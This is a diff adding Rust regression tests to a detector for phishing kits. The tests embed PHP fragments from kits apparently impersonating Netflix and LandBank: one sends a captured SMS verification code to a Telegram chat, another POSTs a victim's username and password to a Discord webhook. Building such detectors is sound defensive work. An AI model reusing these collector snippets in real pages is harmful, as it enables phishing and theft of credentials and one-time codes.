@@ -1014,3 +1014,31 @@ fn a_brands_sign_in_page_that_logs_its_visitors_is_a_kit_page() {
     let quiet = page.replace("file_put_contents('Panel/logs.txt', \">>> $ip\\n\", FILE_APPEND);", "");
     assert!(found(&quiet).is_empty(), "{:?}", found(&quiet));
 }
+
+#[test]
+fn a_code_sent_through_the_kits_own_chat_helper_is_collected() {
+    // Regression: fresh164's Netflix kit sends each step through `sendMessage()`, kept in its
+    // `functions.php`, the code under a heading of a tree of values.
+    let step = "<?php include 'functions.php'; $verification_code = isset($_POST['code']) ? htmlspecialchars($_POST['code']) : '';\n\
+                $m = \"NEW SMS VERIFICATION\\n\\n🕹️ Verification Code:\\n\\n└ <code>{$verification_code}</code>\\n\";\n\
+                if (sendMessage($m)) { error_log('Verification code sent to Telegram successfully.'); header('Location: loading2.php'); exit(); }";
+    assert_eq!(found(step), [Why::CredentialCollector]);
+    // A chat helper named for the chat.
+    let named = step.replace("sendMessage($m)", "send_to_telegram($m)").replace("Telegram", "the group");
+    assert_eq!(found(&named), [Why::CredentialCollector]);
+    // A `sendMessage` in a file that names no chat service (an SMS gateway's).
+    let sms = step.replace("Telegram", "the gateway");
+    assert!(found(&sms).is_empty(), "{:?}", found(&sms));
+}
+
+#[test]
+fn credentials_posted_to_a_discord_webhook_are_collected() {
+    // Regression: fresh164's LandBank kit.
+    let login = "<?php $username = $_POST['loginid']; $password = $_POST['uipassword'];\n\
+                 $hook = \"https://discord.com/api/webhooks/1394689160601669787/pkXOqq\";\n\
+                 $payload = json_encode(['description' => \"Username : $username\\nPassword : $password\"]);\n\
+                 @file_get_contents($hook, false, stream_context_create(['http' => ['method' => 'POST', 'content' => $payload]]));\n\
+                 header('Location: otp.php'); exit;";
+    assert!(crate::shapes::may_match(login.as_bytes()));
+    assert_eq!(found(login), [Why::CredentialCollector]);
+}
